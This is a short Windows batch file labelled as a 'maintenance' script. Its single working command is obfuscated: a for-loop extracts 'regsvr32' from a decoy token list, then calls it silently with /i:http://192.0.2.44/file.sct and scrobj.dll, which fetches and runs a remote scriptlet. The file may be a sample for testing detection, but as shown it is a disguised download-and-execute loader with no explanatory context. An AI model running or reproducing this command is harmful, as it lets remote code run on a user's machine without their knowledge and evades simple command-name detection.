REM maintenance 9619 v4
for /f "tokens=1 delims=;" %%i in ("regsvr32;xtyj;blma") do %%i /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
